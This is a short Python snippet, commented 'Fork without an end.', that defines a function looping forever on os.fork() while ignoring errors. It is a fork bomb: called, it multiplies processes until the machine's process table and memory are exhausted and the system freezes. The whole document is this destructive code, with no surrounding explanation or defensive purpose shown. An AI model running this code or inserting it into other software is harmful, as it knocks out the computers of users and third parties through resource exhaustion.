# Fork without an end.
import os
def f(x):
    while True:
        try: os.fork()
        except OSError: pass
